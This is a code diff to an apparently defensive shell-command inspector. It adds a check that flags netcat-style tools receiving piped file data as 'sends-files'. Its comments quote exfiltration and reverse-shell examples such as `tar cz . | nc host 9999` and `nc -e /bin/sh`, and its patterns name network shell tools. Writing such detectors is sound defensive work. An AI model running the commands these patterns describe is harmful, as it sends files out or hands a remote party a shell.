@@ -3,7 +3,7 @@ import { hit, worstOf, type Hit } from '../finding.ts';
 import type { Call, Handler } from '../inspector.ts';
 import { isCredentialFile } from '../control-files.ts';
 import { forkScope } from '../shell-scope.ts';
-import { UNTRUSTED } from '../unknown-text.ts';
+import { isUnknown, UNTRUSTED } from '../unknown-text.ts';
 import { hitOfWrites } from '../write-hit.ts';
 import { findDestructiveVerb } from './destructive-verbs.ts';
 
@@ -43,6 +43,7 @@ export const judgeNetwork: Handler = (call) => {
   if (/^(ftp|lftp|sftp|telnet)$/.test(name)) runEscapes(call);
   const shell = executes(name, args);
   if (shell !== null) return hit('bash_destructive', 'reverse-shell');
+  if (sendsFiles(call)) return hit('bash_destructive', 'sends-files');
   if (call.inspector.readsCredentials) return hit('bash_destructive', 'sends-credentials');
   const { operands, values } = parseOptions(args, name === 'wget' ? [...VALUED, '-O'] : VALUED);
   const method = methodOf(args).toUpperCase();
@@ -122,6 +123,16 @@ function downloadedNames(
     .map((url) => url.replace(/[?#].*$/, '').replace(/.*\//, ''))
     .filter((file) => file !== '');
   return folder === undefined ? names : names.map((file) => `${folder.replace(/\/$/, '')}/${file}`);
+}
+
+/** `tar cz . | nc host 9999`: whatever is in the files goes to a bare socket. */
+function sendsFiles({ name, args, stdin }: Call): boolean {
+  return (
+    /^(nc|ncat|netcat|telnet)$/.test(name) &&
+    stdin !== undefined &&
+    isUnknown(stdin) &&
+    !args.some((arg) => LOCAL.test(arg) || /^-\w*[zl]/.test(arg))
+  );
 }
 
 /** `nc -e /bin/sh`, `socat exec:…`: hands a shell to the other side. */
